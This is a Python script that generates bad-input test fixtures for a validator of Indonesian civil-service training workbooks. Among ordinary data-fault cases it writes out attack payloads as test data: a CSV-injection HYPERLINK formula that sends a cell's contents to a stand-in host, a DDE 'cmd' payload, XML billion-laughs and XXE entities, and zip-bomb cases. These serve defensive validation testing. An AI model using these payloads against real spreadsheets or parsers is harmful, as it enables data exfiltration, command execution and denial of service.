"""Build the bad-input corpus in this folder (run once; the files are committed).

    python tests/data/bad/make_cases.py

Layout
------
``_base/``
    A small, clean agency (all 23 tables + ``instansi.yaml``) that validates with no problem.
``<case_id>/``
    Only the file(s) a case changes. A test copies ``_base/`` to a temporary folder, removes the
    files named in the ``remove`` column of ``cases.csv``, copies the case's files over it and runs
    ``workbook validate`` on the result.
``cases.csv``
    One row per case: ``case_id, table, failure_class, file, expected_code, severity, row, column,
    remove, generated, note``. ``row`` is the spreadsheet row (header = 1; blank = the whole file),
    ``column`` the canonical column (blank = the whole file). ``generated`` names the cases whose
    file is built at test time and never committed (an oversized file, a zip bomb).

Failure classes: ``missing_column``, ``renamed_column``, ``text_in_number``, ``out_of_range``,
``invalid_value`` (dates, allowed values, blanks, NIP), ``duplicate_id``, ``unmatched_id``,
``empty_file``, ``header_only``, ``wrong_encoding``, ``excel_merged_formula``,
``csv_injection``, ``missing_file``, ``oversized``, ``zip_bomb``, ``xml_attack``.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
INJECTION = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik di sini")'

CODES = [("M.1", "Integritas", "Integrity", "manajerial"), ("M.2", "Kerja Sama", "Teamwork", "manajerial"),
         ("SK.1", "Perekat Bangsa", "Nation Building", "sosial_kultural"),
         ("T.01", "Analisis Data", "Data Analysis", "teknis")]
JAB = [("Analis Kebijakan Ahli Muda", "fungsional", "III/c"), ("Pengadministrasi Umum", "pelaksana", "II/c"),
       ("Kepala Seksi Pelayanan", "pengawas", "III/d")]
UNITS = [("DINKES", "Dinas Kesehatan"), ("BKPSDM", "Badan Kepegawaian dan Pengembangan SDM")]


def base_tables() -> dict[str, tuple[list[str], list[list[str]]]]:
    """The clean base agency: table → (header, rows of text cells)."""
    t: dict[str, tuple[list[str], list[list[str]]]] = {}
    t["kamus_kompetensi"] = (["kode_kompetensi", "nama_id", "nama_en", "jenis"], [list(c) for c in CODES])
    t["standar_kompetensi"] = (["jabatan", "kode_kompetensi", "level_standar"],
                               [[j[0], c[0], str(2 + (i + k) % 3)] for i, j in enumerate(JAB)
                                for k, c in enumerate(CODES)])
    peg = []
    for i in range(12):
        u, j = UNITS[i % 2], JAB[i % 3]
        status = "PPPK" if i == 11 else "PNS"
        peg.append([f"P{i + 1:04d}", u[0], u[1], j[0], j[1], "" if status == "PPPK" else j[2], status,
                    f"20{10 + i % 10}-0{1 + i % 9}-01", "LP"[i % 2], ["<30", "30-39", "40-49", "50+"][i % 4],
                    "100", str(80 + i), "Baik", str(50 + i)])
    t["pegawai"] = (["pegawai_id", "kode_unit", "nama_unit", "jabatan", "jenis_jabatan", "golongan", "status", "tmt",
                     "jenis_kelamin", "kelompok_usia", "skp_target", "skp_realisasi", "predikat_kinerja",
                     "skor_potensi"], peg)
    t["hasil_asesmen"] = (["pegawai_id", "kode_kompetensi", "level", "tanggal", "metode"],
                          [[f"P{i + 1:04d}", "M.1", str(2 + i % 3), "2026-03-14", "pemetaan"] for i in range(4)])
    sv_head = ["pegawai_id", "waktu_isi"] + [f"level_{c[0]}" for c in CODES] + [f"penting_{c[0]}" for c in CODES] + [
        "bentuk_diminati", "kebutuhan_lain"]
    t["survei_pegawai"] = (sv_head, [[f"P{i + 1:04d}", f"2026-08-{10 + i:02d} 09:{i:02d}:00"] +
                                     [str(1 + (i + k) % 5) for k in range(4)] + [str(5 - (i + k) % 5) for k in range(4)]
                                     + ["e_learning", "Pelatihan analisis data" if i % 2 else ""] for i in range(10)])
    t["survei_atasan"] = (["pegawai_id", "atasan_id", "waktu_isi", "level_M.1", "level_M.2"],
                          [[f"P{i + 1:04d}", "P0003", "2026-08-20 10:00:00", "3", "4"] for i in range(4)])
    t["katalog_program"] = (
        ["program_id", "nama_program", "bentuk", "jalur", "kode_kompetensi", "jp", "hari", "cakupan",
         "biaya_per_peserta", "kapasitas_per_sesi", "penyelenggara", "bulan_tersedia"],
        [["PRG-001", "Pelatihan Analisis Data", "pelatihan_teknis", "klasikal", "T.01;M.2", "24", "", "nasional",
          "3500000", "30", "BPSDM Provinsi", "3;4;9"],
         ["PRG-002", "Coaching Integritas", "coaching", "nonklasikal", "M.1", "10", "", "nasional", "0", "10",
          "Inspektorat", ""],
         ["PRG-003", "Seminar Pelayanan Publik", "seminar", "klasikal", "M.2;SK.1", "", "2", "nasional", "1500000",
          "100", "Dinas Kominfo", "5"]])
    t["anggaran"] = (["sumber_dana", "kode_unit", "pagu"], [["APBD", "", "150000000"], ["BLUD", "DINKES", "25000000"]])
    t["realisasi_pengembangan"] = (["pegawai_id", "program_id", "nama_kegiatan", "tanggal_mulai", "jp"],
                                   [[f"P{i + 1:04d}", "PRG-001", "Pelatihan Analisis Data", "2026-04-06", "24"]
                                    for i in range(4)])
    t["evaluasi_l1"] = (["program_id", "responden_id", "fas_1", "fas_2", "pen_1", "rekomendasi", "komentar"],
                        [["PRG-001", f"R{i}", str(1 + i % 4), str(1 + (i + 1) % 4), str(1 + (i + 2) % 4), "ya",
                          "Materi aplikatif" if i % 2 else ""] for i in range(6)])
    t["evaluasi_l2"] = (["pegawai_id", "program_id", "skor_pre", "skor_post", "skor_maks"],
                        [[f"P{i + 1:04d}", "PRG-001", str(40 + 3 * i), str(60 + 3 * i), "100"] for i in range(6)])
    t["evaluasi_l2_butir"] = (["pegawai_id", "program_id", "tahap", "butir_1", "butir_2", "butir_3"],
                              [[f"P{i + 1:04d}", "PRG-001", tahap, str((i + k) % 2), "1", str(k)]
                               for i in range(3) for k, tahap in enumerate(("pre", "post"))])
    t["evaluasi_l3"] = (["pegawai_id", "program_id", "peran_penilai", "tahap", "tanggal", "indikator", "rating"],
                        [[f"P{i + 1:04d}", "PRG-001", "atasan", tahap, d, "Menyusun laporan analisis", r]
                         for i in range(2) for tahap, d, r in (("sebelum", "2026-03-01", "2"),
                                                               ("sesudah", "2026-10-05", "4"))])
    t["wawancara"] = (["program_id", "peran", "tanggal", "tema", "ringkasan"],
                      [["PRG-001", "atasan", "2026-10-12", "penerapan", "Sudah menerapkan di unit"],
                       ["PRG-001", "peserta", "2026-10-13", "hambatan", "Waktu kerja padat"]])
    t["indikator_unit"] = (["kode_unit", "indikator", "periode", "nilai", "arah_baik", "program_id"],
                           [["DINKES", "Indeks kepuasan masyarakat", "sebelum", "78.2", "naik", "PRG-001"],
                            ["DINKES", "Indeks kepuasan masyarakat", "sesudah", "82.4", "naik", "PRG-001"]])
    # Phillips ROI (optional; roi_biaya and roi_manfaat together): one programme, one estimate, one
    # comparison-group measure and one intangible measure
    t["roi_biaya"] = (["program_id", "komponen", "biaya", "keterangan"],
                      [["PRG-001", "penyelenggaraan", "14000000", "4 peserta x Rp 3.500.000"],
                       ["PRG-001", "waktu_peserta", "5760000", "4 peserta x 24 jam x Rp 60.000"],
                       ["PRG-001", "evaluasi", "2500000", ""]])
    t["roi_manfaat"] = (["program_id", "ukuran", "perubahan", "isolasi", "perubahan_pembanding", "proyeksi_tren",
                         "kontribusi", "keyakinan", "keterangan"],
                        [["PRG-001", "Jam kerja yang dihemat", "480", "estimasi", "", "", "0.5", "0.8",
                          "estimasi peserta"],
                         ["PRG-001", "Laporan terlambat", "12", "pembanding", "4", "", "", "", ""],
                         ["PRG-001", "Kepuasan atasan", "0.6", "", "", "", "", "", "tidak dirupiahkan"]])
    t["roi_konversi"] = (["ukuran", "satuan", "nilai_per_satuan", "sumber"],
                         [["Jam kerja yang dihemat", "jam", "60000", "gaji dan tunjangan per jam"],
                          ["Laporan terlambat", "laporan", "250000", "biaya koreksi laporan"]])
    # issue #17 planning inputs (optional): training history as exported from SIASN, old-name equivalences,
    # the plan year's intake, JF trainings and a programme's cost split across payers
    t["riwayat_pelatihan"] = (["pegawai_id", "jenis", "nama", "tanggal_selesai", "jp", "status"],
                              [["P0001", "Latsar CPNS", "Pelatihan Dasar CPNS Angkatan XII", "2019-11-20", "241",
                                "lulus"],
                               ["P0002", "Diklat Prajabatan", "Diklat Prajabatan Golongan II", "2012-06-15", "180", ""],
                               ["P0003", "Diklatpim IV", "Diklat Kepemimpinan Tingkat IV Angkatan II", "2014-10-31",
                                "360", "lulus"],
                               ["P0006", "PKP", "Pelatihan Kepemimpinan Pengawas Angkatan III", "2026-09-12", "",
                                "sedang"],
                               ["P0004", "Kursus", "Kursus Analisis Data dengan Python", "2025-05-09", "32", "lulus"]])
    t["kesetaraan_pelatihan"] = (["nama_lama", "wajib"],
                                 [["Diklat Prajabatan", "latsar"], ["Diklatpim IV", "pkp"],
                                  ["Diklatpim III|SPAMA", "pka"]])
    t["formasi_tahun_rencana"] = (["status", "jumlah", "kode_unit", "jabatan", "tmt_perkiraan"],
                                  [["CPNS", "3", "DINKES", "Analis Kebijakan Ahli Muda", "2027-03-01"],
                                   ["PPPK", "2", "BKPSDM", "Pengadministrasi Umum", "2027-04-01"]])
    t["jf_wajib"] = (["jf_nama", "jenjang", "pemicu", "program_id"],
                     [["Analis Kebijakan", "ahli pertama", "pengangkatan_pertama", "PRG-001"],
                      ["Analis Kebijakan", "ahli muda", "kenaikan_jenjang", "PRG-003"],
                      ["Analis Kebijakan", "", "perpindahan", "PRG-001"]])
    t["komponen_biaya"] = (["program_id", "komponen", "kode_rekening", "biaya", "pembayar"],
                           [["PRG-001", "kontribusi", "5.1.02.02.01.0003", "2500000", "BKPSDM"],
                            ["PRG-001", "perjalanan_dinas", "5.1.02.04.01.0001", "1000000", "OPD_peserta"],
                            ["PRG-003", "paket_meeting", "5.1.02.01.01.0052", "500000", "penyelenggara"]])
    return t


INSTANSI = "nama_instansi: Kabupaten Uji Rusak\njenis_instansi: kabupaten\ntahun_rencana: 2027\n"


def to_csv(header: list[str], rows: list[list[str]]) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


# Per table: what each failure class changes.  (row index in the base rows, column, value)
KEY_LABEL = {"hasil_asesmen": "pegawai_id+kode_kompetensi", "standar_kompetensi": "jabatan+kode_kompetensi", "evaluasi_l2": "pegawai_id+program_id",
             "evaluasi_l2_butir": "pegawai_id+program_id+tahap", "anggaran": "sumber_dana+kode_unit",
             "indikator_unit": "kode_unit+indikator+periode", "roi_biaya": "program_id+komponen",
             "roi_manfaat": "program_id+ukuran", "jf_wajib": "jf_nama+jenjang+pemicu",
             "komponen_biaya": "program_id+komponen+pembayar"}
SPEC: dict[str, dict] = {
    "pegawai": dict(drop="jabatan", rename=("kode_unit", "kode unit kerja"), num=(2, "skp_target", "seratus"),
                    rng=(3, "skor_potensi", "150"), inval=[(4, "tmt", "31/02/2019", "not_a_date"),
                                                         (5, "status", "Honorer", "not_allowed"),
                                                         (6, "nama_unit", "", "required_blank")],
                    dup=7, unmatched=(8, "jabatan", "Kepala Bidang Fiktif", "missing_standard"),
                    inject=(1, "nama_unit"), text=(1, "nama_unit"), formula=(2, "skp_realisasi")),
    "kamus_kompetensi": dict(drop="jenis", rename=("nama_en", "english name"), num=None, rng=None,
                             inval=[(1, "jenis", "perilaku", "not_allowed"), (2, "nama_id", "", "required_blank")],
                             dup=3, unmatched=None, inject=(0, "nama_en"), text=(1, "nama_id"),
                             formula=(2, "nama_id")),
    "standar_kompetensi": dict(drop="level_standar", rename=("jabatan", "nama jabatan"),
                               num=(1, "level_standar", "tiga"), rng=(2, "level_standar", "7"),
                               inval=[(3, "level_standar", "2.5", "not_an_integer"), (4, "jabatan", "", "required_blank")],
                               dup=5, unmatched=(6, "kode_kompetensi", "X.99", "unknown_reference"),
                               inject=(0, "jabatan"), text=(0, "jabatan"), formula=(1, "level_standar")),
    "hasil_asesmen": dict(drop="level", rename=("metode", "cara"), num=(0, "level", "baik"), rng=(1, "level", "6"),
                          inval=[(2, "tanggal", "kemarin", "not_a_date"), (3, "metode", "wawancara", "not_allowed")],
                          dup=0, unmatched=(2, "pegawai_id", "P9999", "unknown_reference"),
                          inject=(1, "pegawai_id"), text=None, formula=(2, "level")),
    "survei_pegawai": dict(drop="waktu_isi", rename=("pegawai_id", "nomor pegawai"), num=(3, "level_M.2", "tinggi"),
                           rng=(4, "level_T.01", "9"), inval=[(5, "waktu_isi", "besok pagi", "not_a_date"),
                                                              (6, "penting_M.1", "3.5", "not_an_integer")],
                           dup=1, unmatched=(7, "pegawai_id", "P0999", "unknown_reference"),
                           inject=(2, "kebutuhan_lain"), text=(3, "kebutuhan_lain"), formula=(4, "level_M.1")),
    "survei_atasan": dict(drop="pegawai_id", rename=("waktu_isi", "tanggal isi"), num=(0, "level_M.1", "cukup"),
                          rng=(1, "level_M.2", "0"), inval=[(2, "waktu_isi", "", "required_blank")],
                          dup=3, unmatched=(2, "pegawai_id", "P7777", "unknown_reference"),
                          inject=(1, "atasan_id"), text=(0, "atasan_id"), formula=(3, "level_M.2")),
    "katalog_program": dict(drop="biaya_per_peserta", rename=("nama_program", "judul"),
                            num=(0, "biaya_per_peserta", "tiga juta"), rng=(1, "kapasitas_per_sesi", "0"),
                            inval=[(2, "bentuk", "webinar", "not_allowed"), (0, "bulan_tersedia", "3;13", "out_of_range")],
                            dup=2, unmatched=(1, "kode_kompetensi", "M.1;Z.5", "unknown_reference"),
                            inject=(2, "nama_program"), text=(1, "penyelenggara"), formula=(0, "kapasitas_per_sesi")),
    "anggaran": dict(drop="pagu", rename=("sumber_dana", "sumber"), num=(0, "pagu", "seratus juta"),
                     rng=(1, "pagu", "-5000000"), inval=[(1, "sumber_dana", "", "required_blank")],
                     dup=0, unmatched=None, inject=(1, "sumber_dana"), text=(1, "sumber_dana"), formula=(0, "pagu")),
    "realisasi_pengembangan": dict(drop="tanggal_mulai", rename=("jp", "jam pelatihan"), num=(0, "jp", "dua puluh"),
                                   rng=(1, "jp", "5000"), inval=[(2, "tanggal_mulai", "2026-13-45", "not_a_date")],
                                   dup=None, unmatched=(3, "pegawai_id", "P4242", "unknown_reference"),
                                   inject=(0, "nama_kegiatan"), text=(0, "nama_kegiatan"), formula=(1, "jp")),
    "evaluasi_l1": dict(drop="program_id", rename=("program_id", "kode pelatihan"), num=(0, "fas_1", "baik sekali"),
                        rng=(1, "fas_2", "7"), inval=[(2, "rekomendasi", "mungkin", "not_allowed")],
                        dup=None, unmatched=(3, "program_id", "PRG-404", "unknown_reference"),
                        inject=(1, "komentar"), text=(1, "komentar"), formula=(2, "fas_1")),
    "evaluasi_l2": dict(drop="skor_maks", rename=("program_id", "kode diklat"), num=(0, "skor_pre", "lima puluh"),
                        rng=(1, "skor_post", "-3"), inval=[(2, "skor_maks", "", "required_blank"),
                                                           (3, "skor_post", "120", "score_above_max")],
                        dup=4, unmatched=(5, "pegawai_id", "P8888", "unknown_reference"),
                        inject=(0, "pegawai_id"), text=None, formula=(1, "skor_post")),
    "evaluasi_l2_butir": dict(drop="tahap", rename=("tahap", "fase"), num=(0, "butir_1", "benar"),
                              rng=(1, "butir_2", "-1"), inval=[(2, "tahap", "tengah", "not_allowed")],
                              dup=3, unmatched=(4, "program_id", "PRG-999", "unknown_reference"),
                              inject=(5, "pegawai_id"), text=None, formula=(0, "butir_3")),
    "evaluasi_l3": dict(drop="rating", rename=("peran_penilai", "penilai"), num=(0, "rating", "bagus"),
                        rng=(1, "rating", "6"), inval=[(2, "tahap", "selama", "not_allowed"),
                                                       (3, "tanggal", "Oktober", "not_a_date")],
                        dup=None, unmatched=(3, "program_id", "PRG-777", "unknown_reference"),
                        inject=(0, "indikator"), text=(0, "indikator"), formula=(1, "rating")),
    "wawancara": dict(drop="tema", rename=("peran", "narasumber"), num=None, rng=None,
                      inval=[(0, "peran", "kepala", "not_allowed"), (1, "tanggal", "", "required_blank")],
                      dup=None, unmatched=(1, "program_id", "PRG-123", "unknown_reference"),
                      inject=(1, "ringkasan"), text=(0, "ringkasan"), formula=(0, "tema")),
    "indikator_unit": dict(drop="nilai", rename=("arah_baik", "arah"), num=(0, "nilai", "tinggi"), rng=None,
                           inval=[(1, "periode", "selama", "not_allowed"), (0, "arah_baik", "", "required_blank")],
                           dup=1, unmatched=None, inject=(0, "indikator"), text=(1, "indikator"),
                           formula=(1, "nilai")),
    "roi_biaya": dict(drop="biaya", rename=("komponen", "jenis biaya"), num=(0, "biaya", "empat belas juta"),
                      rng=(1, "biaya", "-5000000"), inval=[(2, "komponen", "", "required_blank")],
                      dup=0, unmatched=(1, "program_id", "PRG-404", "unknown_reference"),
                      inject=(2, "keterangan"), text=(0, "keterangan"), formula=(0, "biaya")),
    "roi_manfaat": dict(drop="ukuran", rename=("ukuran", "nama ukuran"), num=(0, "perubahan", "banyak"),
                        rng=(0, "kontribusi", "1.5"),
                        inval=[(1, "isolasi", "acak", "not_allowed"), (0, "keyakinan", "", "required_blank"),
                               (1, "perubahan_pembanding", "", "required_blank")],
                        dup=1, unmatched=(1, "program_id", "PRG-002", "unknown_reference"),
                        inject=(0, "keterangan"), text=(0, "keterangan"), formula=(0, "perubahan")),
    "roi_konversi": dict(drop="nilai_per_satuan", rename=("ukuran", "nama ukuran"),
                         num=(0, "nilai_per_satuan", "enam puluh ribu"), rng=(1, "nilai_per_satuan", "-250000"),
                         inval=[(1, "sumber", "", "required_blank")], dup=0, unmatched=None,
                         inject=(1, "sumber"), text=(0, "sumber"), formula=(0, "nilai_per_satuan")),
    "riwayat_pelatihan": dict(drop="pegawai_id", rename=("jenis", "jenis diklat"), num=(0, "jp", "dua ratus"),
                              rng=(2, "jp", "-360"),
                              inval=[(2, "tanggal_selesai", "31/11/2014", "not_a_date"),
                                     (4, "status", "selesai", "not_allowed"), (1, "jenis", "", "required_blank")],
                              dup=None, unmatched=(4, "pegawai_id", "P0404", "unknown_reference"),
                              inject=(4, "nama"), text=(2, "nama"), formula=(0, "jp")),
    "kesetaraan_pelatihan": dict(drop="wajib", rename=("nama_lama", "nama pelatihan lama"), num=None, rng=None,
                                 inval=[(1, "wajib", "diklatpim", "not_allowed"),
                                        (2, "nama_lama", "Diklatpim (III", "not_allowed"),
                                        (0, "wajib", "", "required_blank")],
                                 dup=1, unmatched=None, inject=(0, "nama_lama"), text=(0, "nama_lama"),
                                 formula=(1, "nama_lama")),
    "formasi_tahun_rencana": dict(drop="jumlah", rename=("status", "jenis formasi"), num=(0, "jumlah", "tiga"),
                                  rng=(1, "jumlah", "0"),
                                  inval=[(0, "status", "Honorer", "not_allowed"),
                                         (1, "tmt_perkiraan", "awal April", "not_a_date"),
                                         (0, "jumlah", "2.5", "not_an_integer")],
                                  dup=None, unmatched=(0, "kode_unit", "DISDIK", "unknown_reference"),
                                  inject=(1, "jabatan"), text=(0, "jabatan"), formula=(0, "jumlah")),
    "jf_wajib": dict(drop="pemicu", rename=("jf_nama", "nama jabatan fungsional"), num=None, rng=None,
                     inval=[(0, "pemicu", "naik_pangkat", "not_allowed"), (1, "program_id", "", "required_blank")],
                     dup=0, unmatched=(2, "program_id", "PRG-099", "unknown_reference"),
                     inject=(1, "jenjang"), text=(0, "jf_nama"), formula=(1, "jenjang")),
    "komponen_biaya": dict(drop="biaya", rename=("pembayar", "dibayar oleh"), num=(0, "biaya", "dua juta"),
                           rng=(1, "biaya", "-1000000"),
                           inval=[(2, "komponen", "konsumsi", "not_allowed"), (0, "pembayar", "", "required_blank")],
                           dup=1, unmatched=(2, "program_id", "PRG-404", "unknown_reference"),
                           inject=(0, "kode_rekening"), text=(1, "kode_rekening"), formula=(0, "biaya")),
}
# tables that also get the second variant of a class and the generated files
VARIANTS = ("pegawai", "survei_pegawai", "katalog_program", "evaluasi_l2")
REQUIRED_TABLES = ["pegawai", "kamus_kompetensi", "standar_kompetensi", "survei_pegawai", "katalog_program",
                   "anggaran", "realisasi_pengembangan"]
LATEST_BY = {"hasil_asesmen": "tanggal", "survei_pegawai": "waktu_isi", "survei_atasan": "waktu_isi"}


def _xlsx(header: list[str], rows: list[list[str]], title: str, formula: tuple[int, str]) -> bytes:
    """A typical hand-made sheet: a merged title row, a blank row, the header, numbers stored as
    numbers, one vertically merged block of equal values and one formula never calculated."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Lembar1"
    ws.append([title])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(header))
    ws.append([])
    ws.append(header)
    fr, fc = formula
    for i, r in enumerate(rows):
        vals = []
        for c, v in zip(header, r, strict=True):
            try:
                vals.append(float(v) if v and c not in ("pegawai_id", "atasan_id") else (v or None))
            except ValueError:
                vals.append(v or None)
        if i == fr:
            j = header.index(fc)
            vals[j] = f"=SUM({chr(65 + j)}{4 + (i + 1) % len(rows)},0)"
        ws.append(vals)
    # merge a vertical block of identical values in the first column when two rows agree
    col0 = [r[0] for r in rows]
    for i in range(len(col0) - 1):
        if col0[i] == col0[i + 1] and (i, header[0]) != formula and (i + 1, header[0]) != formula:
            ws.cell(row=5 + i, column=1, value=None)
            ws.merge_cells(start_row=4 + i, start_column=1, end_row=5 + i, end_column=1)
            break
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _xml_attack(kind: str) -> bytes:
    """A minimal XLSX whose shared strings carry an entity expansion or an external entity."""
    if kind == "billion_laughs":
        doctype = ('<!DOCTYPE sst [<!ENTITY a "AAAAAAAAAA">' +
                   "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(5)) + "]>")
        payload = "&f;"
    else:
        doctype = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
        payload = "&xxe;"
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="kamus_kompetensi" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            '</Relationships>'),
        "xl/sharedStrings.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>' + doctype +
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
            f'<si><t>{payload}</t></si></sst>'),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>kode_kompetensi</t>'
            '</is></c><c r="B1" t="inlineStr"><is><t>nama_id</t></is></c><c r="C1" t="inlineStr"><is><t>nama_en'
            '</t></is></c><c r="D1" t="inlineStr"><is><t>jenis</t></is></c></row><row r="2"><c r="A2" t="s"><v>0'
            '</v></c><c r="B2" t="inlineStr"><is><t>Integritas</t></is></c><c r="C2" t="inlineStr"><is><t>'
            'Integrity</t></is></c><c r="D2" t="inlineStr"><is><t>manajerial</t></is></c></row></sheetData>'
            '</worksheet>'),
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in files.items():
            zf.writestr(name, text)
    return buf.getvalue()


def build_cases() -> list[dict]:
    """Every case: its row of ``cases.csv`` plus ``files`` (name → bytes) to write."""
    base = base_tables()
    cases: list[dict] = []

    def add(table: str, cls: str, files: dict[str, bytes], code: str, sev: str, row: int | None,
            column: str | None, *, remove: str = "", generated: str = "", note: str = "",
            fname: str | None = None, exit: int | None = None) -> None:
        n = sum(1 for c in cases if c["table"] == table and c["failure_class"] == cls)
        cid = f"{table}__{cls}" + (f"_{n + 1}" if n else "")
        cases.append(dict(case_id=cid, table=table, failure_class=cls,
                          file=fname or (next(iter(files)) if files else f"{table}.csv"),
                          expected_code=code, severity=sev, row="" if row is None else str(row),
                          column=column or "", exit=str(exit if exit is not None else int(sev == "error")), remove=remove, generated=generated, note=note, files=files))

    for name, spec in SPEC.items():
        head, rows = base[name]
        fn = f"{name}.csv"

        def csvb(h: list[str], r: list[list[str]]) -> bytes:
            return to_csv(h, r).encode("utf-8")

        def setcell(i: int, col: str, v: str, h: list[str] = head, r0: list[list[str]] = rows) -> list[list[str]]:
            r = [list(x) for x in r0]
            r[i][h.index(col)] = v
            return r

        # wrong or missing columns
        j = head.index(spec["drop"])
        add(name, "missing_column", {fn: csvb(head[:j] + head[j + 1:], [r[:j] + r[j + 1:] for r in rows])},
            "missing_column", "error", 1, spec["drop"], note="required column removed")
        old, new = spec["rename"]
        h2 = [new if h == old else h for h in head]
        add(name, "renamed_column", {fn: csvb(h2, rows)}, "missing_column", "error", 1, old,
            note=f"header '{new}' instead of '{old}'")
        if spec["num"]:
            i, col, v = spec["num"]
            add(name, "text_in_number", {fn: csvb(head, setcell(i, col, v))}, "not_a_number", "error", i + 2, col,
                note=f"'{v}'")
        if spec["rng"]:
            i, col, v = spec["rng"]
            add(name, "out_of_range", {fn: csvb(head, setcell(i, col, v))}, "out_of_range", "error", i + 2, col,
                note=f"'{v}'")
        for i, col, v, code in spec["inval"]:
            cls = "out_of_range" if code in ("out_of_range", "score_above_max") else "invalid_value"
            add(name, cls, {fn: csvb(head, setcell(i, col, v))}, code, "error", i + 2, col, note=f"'{v}'")
        if spec["dup"] is not None:
            i = spec["dup"]
            r = [list(x) for x in rows] + [list(rows[i])]
            if name in LATEST_BY:
                # a second, later submission: the older one (the original row) is dropped with a warning
                k = head.index(LATEST_BY[name])
                r[-1][k] = "2026-09-30 08:00:00" if "waktu" in LATEST_BY[name] else "2026-09-30"
                add(name, "duplicate_id", {fn: csvb(head, r)}, "duplicate_submission", "warning", i + 2,
                    KEY_LABEL.get(name, head[0]), note="resubmission; the latest is kept")
            else:
                add(name, "duplicate_id", {fn: csvb(head, r)}, "duplicate_key", "error", len(rows) + 2,
                    KEY_LABEL.get(name, head[0]), note=f"copy of row {i + 2}")
        if spec["unmatched"]:
            i, col, v, code = spec["unmatched"]
            add(name, "unmatched_id", {fn: csvb(head, setcell(i, col, v))}, code,
                "warning" if code == "missing_standard" else "error", i + 2, col, note=f"'{v}'")
        add(name, "empty_file", {fn: b""}, "empty_file", "error", None, None, note="0 bytes")
        if name in VARIANTS:
            add(name, "empty_file", {fn: b"\r\n\r\n  \n"}, "empty_file", "error", None, None, note="blank lines only")
        add(name, "header_only", {fn: csvb(head, [])}, "header_only", "error", 1, None)
        # wrong encodings
        if spec["text"]:
            i, col = spec["text"]
            r = setcell(i, col, (rows[i][head.index(col)] or "Catatan") + " – Café Köln")
            add(name, "wrong_encoding", {fn: to_csv(head, r).encode("cp1252")}, "encoding_fallback", "warning",
                None, None, note="cp1252 (old Excel 'CSV (Comma delimited)')")
        add(name, "wrong_encoding", {fn: to_csv(head, rows).replace(",", "\t").encode("utf-16")},
            "encoding_fallback", "warning", None, None, note="UTF-16 tab-separated (Excel 'Unicode Text')")
        if name in VARIANTS:
            add(name, "wrong_encoding", {fn: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8},
                "unreadable_file", "error", None, None, note="binary (an old .xls renamed to .csv)")
        # Excel: merged title and data cells, a formula never calculated
        i, col = spec["formula"]
        add(name, "excel_merged_formula",
            {f"{name}.xlsx": _xlsx(head, rows, f"Data {name} — Kabupaten Uji Rusak", spec["formula"])},
            "formula_no_value", "error", i + 4, col, remove=fn,
            note="merged title and data cells; formula without a saved value")
        # CSV injection
        i, col = spec["inject"]
        ex = 1 if col.endswith("_id") and col != "atasan_id" else 0  # an injected id is also unknown
        add(name, "csv_injection", {fn: csvb(head, setcell(i, col, INJECTION))}, "formula_injection", "warning",
            i + 2, col, note="=HYPERLINK(...)", exit=ex)
        if name in VARIANTS:
            add(name, "csv_injection", {fn: csvb(head, setcell(i, col, "@SUM(1+1)*cmd|' /C calc'!A0"))},
                "formula_injection", "warning", i + 2, col, note="DDE payload", exit=ex)
        if name in REQUIRED_TABLES:
            add(name, "missing_file", {}, "missing_file", "error", None, None, remove=fn)
        # generated at test time (never committed); the same code path for every table
        if name not in VARIANTS:
            continue
        add(name, "oversized", {}, "too_large", "error", None, None, remove=fn, generated="oversized_csv",
            fname=fn, note="sparse file above input.max_file_mb")
        add(name, "zip_bomb", {}, "too_large", "error", None, None, remove=fn, generated="zip_bomb",
            fname=f"{name}.xlsx", note="XLSX whose sheet inflates beyond input.max_xlsx_uncompressed_mb")

    # ROI benefits without their costs (the two ROI files come together)
